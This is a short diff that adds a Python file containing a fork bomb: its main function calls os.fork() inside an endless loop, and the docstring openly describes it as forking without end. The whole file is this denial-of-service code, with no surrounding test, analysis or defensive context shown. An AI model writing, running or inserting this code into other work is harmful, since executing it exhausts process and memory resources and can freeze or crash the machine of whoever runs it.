@@ -1,0 +1,7 @@
+"""Forks without end."""
+import os
+
+
+def main():
+    while True:
+        os.fork()
